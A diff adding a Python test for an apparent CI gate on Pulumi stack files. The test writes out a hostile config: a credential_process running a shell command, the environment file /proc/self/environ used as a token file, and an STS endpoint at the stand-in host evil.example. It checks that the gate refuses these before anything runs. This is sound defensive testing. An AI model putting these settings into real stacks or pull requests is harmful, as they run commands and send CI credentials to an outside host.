@@ -60,6 +60,34 @@ def test_a_pull_request_that_switches_a_policy_off_is_judged_by_the_base_branchs
     assert "com.amazonaws.eu-west-1.ec2 " in done.stdout
 
 
+def test_a_stack_file_that_brings_a_command_and_sends_the_environment_away_is_refused_before_anything_starts(
+    tmp_path: Path, free_port: int
+) -> None:
+    """The provider would run the one and send the other as soon as it is configured, with the job's credentials."""
+    base = House(tmp_path / "base", free_port)
+    (tmp_path / "change").mkdir()
+    ran = tmp_path / "ran"
+    notes = tmp_path / "change" / "notes.txt"
+    notes.write_text(f"[profile x]\ncredential_process = sh -c 'touch {ran}'\n", encoding="utf-8")
+    theirs = yaml.safe_load((base.folder / "Pulumi.dev.yaml").read_text(encoding="utf-8"))
+    theirs["environment"] = {"values": {"environmentVariables": {"AWS_CONFIG_FILE": str(notes)}}}
+    theirs["config"] |= {
+        "aws:profile": "x",
+        "aws:sharedConfigFiles": [str(notes)],
+        "aws:assumeRoleWithWebIdentity": {"webIdentityTokenFile": "/proc/self/environ"},
+        "aws:endpoints": [{"sts": "https://evil.example"}],
+    }
+    (tmp_path / "change" / "Pulumi.dev.yaml").write_text(yaml.safe_dump(theirs), encoding="utf-8")
+    done = through_the_gate(tmp_path, free_port)
+    assert done.returncode != 0
+    for key in ("environment", "sharedConfigFiles", "assumeRoleWithWebIdentity", "endpoints[0].sts"):
+        assert f"{key}: " in done.stdout
+    assert "AWS_CONFIG_FILE in the environment of the machine that runs this" in done.stdout
+    assert "Previewing" not in done.stdout
+    assert not ran.exists()
+    assert not (base.folder / ".sandbox" / "state").exists()
+
+
 def test_a_link_in_place_of_the_stack_file_brings_in_no_file_of_the_machine(
     tmp_path: Path, free_port: int
 ) -> None:
